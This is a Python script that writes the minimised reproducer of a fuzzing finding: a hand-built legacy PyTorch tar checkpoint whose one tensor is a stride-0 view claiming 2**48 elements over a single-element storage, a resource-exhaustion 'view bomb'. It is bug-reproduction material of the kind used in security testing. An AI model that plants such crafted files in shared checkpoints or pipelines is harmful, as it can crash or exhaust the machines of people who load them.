#!/usr/bin/env python3
"""Writes the minimised form of fuzz finding 1 (FUZZING.md): a torch <= 0.3 legacy tar whose one tensor is a
stride-0 view of 2**48 float32 elements (1 PiB) over a 1-element storage.

The fuzzer's inputs are 5 KB mutations of a real file with five tensors; this one keeps only what the bug needs
(one storage, one tensor record, a state dict naming it), written opcode by opcode so no torch is needed.

Usage: minimal_view_bomb.py OUTPUT
"""
import struct, sys


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def pickle(body):
    return b"\x80\x02" + body + b"."


def tar_member(name, data):
    header = bytearray(512)
    header[0:len(name)] = name.encode()
    header[100:108] = b"0000644\0"
    header[124:136] = b"%011o\0" % len(data)
    header[156:157] = b"0"
    header[257:262] = b"ustar"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + data + b"\0" * (-len(data) % 512)


# storages: count, (key, location, type), element count, bytes, then the list of storage views.
storages = pickle(b"K\x01")
storages += pickle(b"(" + binunicode("s") + binunicode("cpu") + b"ctorch\nFloatStorage\nt")
storages += struct.pack("<q", 1) + struct.pack("<f", 1.0)
storages += pickle(b"]")
# tensors: count, (key, storage key, type), ndim, 4 pad bytes, sizes, strides, storage offset.
tensors = pickle(b"K\x01")
tensors += pickle(b"(" + binunicode("t") + binunicode("s") + b"ctorch\nFloatTensor\nt")
tensors += struct.pack("<iI", 1, 0) + struct.pack("<q", 1 << 48) + struct.pack("<q", 0) + struct.pack("<q", 0)
# The state dict {"bomb": persistent id "t"}.
main = pickle(b"}" + binunicode("bomb") + binunicode("t") + b"Qs")
out = tar_member("storages", storages) + tar_member("tensors", tensors) + tar_member("pickle", main) + b"\0" * 1024
open(sys.argv[1], "wb").write(out)
